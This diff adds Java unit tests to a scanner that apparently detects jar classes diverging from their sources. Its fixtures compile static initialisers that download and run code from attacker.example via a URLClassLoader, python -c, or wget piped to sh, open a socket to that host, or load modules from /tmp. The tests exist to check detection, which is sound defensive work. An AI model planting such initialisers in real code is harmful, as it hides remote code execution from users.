@@ -685,6 +685,24 @@ class MavenScanTest {
     }
 
     @Test
+    void aShadedClassLoadingCodeFromAUrlIsHighRisk() throws Exception {
+        // red team round 8 (c12): a shaded JSONObject whose static initialiser loads a class from an https: jar
+        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml",
+                shadingPom("org.acme.internal.shaded.fastlib"));
+        Map<String, byte[]> loader = LocalMaven.javac(Map.of("org/acme/internal/shaded/fastlib/Parser.java",
+                "package org.acme.internal.shaded.fastlib;\npublic class Parser {\n  static { try { new java.net.URLClassLoader("
+                        + "new java.net.URL[] {new java.net.URL(\"https://attacker.example/p.jar\")}).loadClass(\"P\")"
+                        + ".getDeclaredConstructor().newInstance(); } catch (Exception e) { } }\n}\n"), "--release", "11");
+        Map<String, byte[]> jar = new LinkedHashMap<>();
+        jar.put("org/acme/Widget.class", CLASS);
+        jar.put("org/acme/internal/shaded/fastlib/Parser.class", loader.get("org/acme/internal/shaded/fastlib/Parser.class"));
+        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
+        FileDivergence f = row(a, "org/acme/internal/shaded/fastlib/Parser.class");
+        assertEquals(FileStatus.BUILD_OUTPUT, f.status(), f.toString());
+        assertTrue(f.highRisk(), f.toString());
+    }
+
+    @Test
     void aShadedPatternWithAPropertyAndAResourceRelocationAreBuildOutput() throws Exception {
         // jackson-core 2.18: com/fasterxml/jackson/core/internal/shaded/fdp/v${project.version.underscore}
         String pom = shadingPom("org/acme/internal/shaded/fdp/v${project.version.underscore}").replace(
@@ -1448,6 +1466,49 @@ class MavenScanTest {
         assertNotEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId(), f.toString());
         assertTrue(f.highRisk() || what.equals("jndi"), f.toString());
         assertNotEquals(Verdict.EXPLAINED, a.verdict());
+    }
+
+    /**
+     * Red team round 8: a class whose source legitimately starts a process, compiled with a static initialiser that
+     * runs an interpreter on inline code, or a download then a shell as separate argv words (c9); a class of a Groovy
+     * source reaching the network through a socket factory, or defining a module layer (c4). A class compiled from
+     * its own source, string escapes and all, stays explained.
+     */
+    @ParameterizedTest
+    @ValueSource(strings = {"python -c", "split argv", "socket factory", "module layer", "own source"})
+    void whatASourceThatStartsProcessesNeverWroteIsBeyondIt(String what) throws Exception {
+        String source = "package org.acme;\n\npublic class Browser {\n    static final String SEP = \"a\\tb\\n\\\"q\\\"\";\n"
+                + "    public static void open(String url) throws Exception {\n"
+                + "        new ProcessBuilder(\"xdg-open\", url).start();\n    }\n}\n";
+        String extra = switch (what) {
+            case "python -c" -> "static { try { new ProcessBuilder(\"python3\", \"-c\", \"import urllib.request as u;"
+                    + "exec(u.urlopen('https://attacker.example/p').read())\").start(); } catch (Exception e) { } }\n";
+            case "split argv" -> "static { try { new ProcessBuilder(\"wget\", \"-q\", \"-O\", \"/tmp/x\", "
+                    + "\"https://attacker.example/x\").start().waitFor(); new ProcessBuilder(\"sh\", \"/tmp/x\").start(); }"
+                    + " catch (Exception e) { } }\n";
+            case "socket factory" -> "static { try { javax.net.ssl.SSLSocketFactory.getDefault().createSocket("
+                    + "\"attacker.example\", 443).getOutputStream().write(1); } catch (Exception e) { } }\n";
+            case "module layer" -> "static { try { java.lang.module.Configuration c = ModuleLayer.boot().configuration()"
+                    + ".resolve(java.lang.module.ModuleFinder.of(java.nio.file.Path.of(\"/tmp/p\")), "
+                    + "java.lang.module.ModuleFinder.of(), java.util.Set.of(\"p\")); ModuleLayer l = ModuleLayer.boot()"
+                    + ".defineModulesWithOneLoader(c, ClassLoader.getSystemClassLoader()); java.util.ServiceLoader.load(l, "
+                    + "Runnable.class).forEach(Runnable::run); } catch (Exception e) { } }\n";
+            default -> "";
+        };
+        String compiled = source.replace("    public static void open", "    " + extra + "    public static void open");
+        boolean groovy = what.equals("socket factory") || what.equals("module layer");
+        String path = groovy ? "src/main/groovy/org/acme/Browser.groovy" : "org/acme/Browser.java";
+        String sourceText = groovy ? "package org.acme\n\nclass Browser {\n  static void open(String url) {\n"
+                + "    new ProcessBuilder('xdg-open', url).start()\n  }\n}\n" : source;
+        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Browser.java", compiled), "--release", "11");
+        ArtifactReport a = artifact(scanJar(greeterTree(path, sourceText), "3.0.0", classes), ".jar");
+        FileDivergence f = row(a, "org/acme/Browser.class");
+        if (what.equals("own source")) {
+            assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId(), f.toString());
+            return;
+        }
+        assertNotEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId(), f.toString());
+        assertTrue(f.highRisk(), f.toString());
     }
 
     @Test
